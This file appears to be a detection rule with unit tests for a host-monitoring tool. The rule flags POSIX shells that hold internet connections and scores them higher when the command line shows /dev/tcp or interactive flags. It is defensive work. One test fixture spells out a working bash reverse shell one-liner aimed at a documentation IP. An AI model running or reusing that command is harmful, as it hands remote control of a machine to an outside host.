import { isPublicAddress } from '../../src/detect/reading/addresses.ts'
import { isShell } from '../../src/detect/reading/interpreters.ts'
import { baseName } from '../../src/detect/reading/paths.ts'
import { int } from '../../src/detect/reading/values.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'posix.shell-with-connection',
  title: 'Shell holds a connection to the internet',
  severity: 'medium',
  on: joining(table('process_open_sockets'), 'name', 'program', 'cmdline'),
  attack: ['T1059.004', 'T1071'],
  dedup: ({ hostId, columns }) => `${hostId} ${columns.remote_address}`,
  detect: ({ columns }) =>
    isShell(baseName(columns.program || columns.name || '')) &&
    (int(columns.fd) ?? 0) > 2 &&
    (int(columns.remote_port) ?? 0) > 0 &&
    isPublicAddress(columns.remote_address),
  // The shell opened it itself, or waits for orders.
  dynamicSeverity: ({ columns }) =>
    / -[a-z]{0,3}i\b|\/dev\/tcp\//.test(columns.cmdline?.slice(0, 2000) ?? '') ? 'high' : undefined,
  alertTitle: ({ host, columns }) =>
    `A shell on ${host} is connected to ${columns.remote_address}:${columns.remote_port}`,
  context: ({ columns }) => ({
    pid: columns.pid,
    program: columns.program,
    cmdline: columns.cmdline,
    fd: columns.fd,
    remote: `${columns.remote_address}:${columns.remote_port}`,
  }),
  means:
    'A shell does not speak to the network by itself. It opened the connection through /dev/tcp, as reverse shells do, or it has it from the program that started it, which may have been broken into.',
  check:
    "SELECT p.pid, p.name, p.cmdline, p.parent, p.uid, s.fd, s.remote_address, s.remote_port FROM process_open_sockets s JOIN processes p USING (pid) WHERE p.name IN ('sh', 'bash', 'dash', 'zsh') AND s.remote_port > 0;",
  benign: 'A program that starts helpers by a shell and leaves its own connections open to them.',
  runbook:
    'See the command line and the parent. A server that runs a helper and leaks its connection: tell its owner. A shell that waits (-i, /dev/tcp), or a remote address nobody knows: isolate the host and look for the way in.',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  tests: [
    {
      name: 'through /dev/tcp',
      match: true,
      columns: {
        pid: '4242',
        fd: '5',
        family: '2',
        remote_address: '198.51.100.7',
        remote_port: '8080',
        name: 'bash',
        program: '/usr/bin/bash',
        cmdline: 'bash -c exec 5<>/dev/tcp/198.51.100.7/8080; cat <&5 | while read l; do $l 2>&5 >&5; done',
      },
      title: 'A shell on test-host is connected to 198.51.100.7:8080',
      dedup: 'test-host-id 198.51.100.7',
      severity: 'high',
      context: {
        pid: '4242',
        program: '/usr/bin/bash',
        cmdline: 'bash -c exec 5<>/dev/tcp/198.51.100.7/8080; cat <&5 | while read l; do $l 2>&5 >&5; done',
        fd: '5',
        remote: '198.51.100.7:8080',
      },
    },
    {
      name: 'a shell that waits for orders',
      match: true,
      columns: {
        fd: '3',
        remote_address: '2001:db8::7',
        remote_port: '443',
        name: 'sh',
        cmdline: 'sh -i',
      },
      severity: 'high',
    },
    {
      name: 'a helper with the connection of its server',
      match: true,
      columns: {
        fd: '9',
        remote_address: '198.51.100.7',
        remote_port: '55555',
        program: '/bin/dash',
        cmdline: 'sh -c convert a.png b.jpg',
      },
      severity: 'medium',
    },
    {
      name: 'to a host of our own',
      match: false,
      columns: { fd: '5', remote_address: '10.0.0.9', remote_port: '8080', program: '/usr/bin/bash' },
    },
    {
      name: 'another program',
      match: false,
      columns: { fd: '5', remote_address: '198.51.100.7', remote_port: '443', program: '/usr/bin/curl' },
    },
    {
      name: 'a socket that is not connected',
      match: false,
      columns: { fd: '5', remote_address: '0.0.0.0', remote_port: '0', program: '/usr/bin/bash' },
    },
    {
      name: 'closed',
      match: false,
      action: 'removed',
      columns: { fd: '5', remote_address: '198.51.100.7', remote_port: '8080', program: '/usr/bin/bash' },
    },
  ],
})
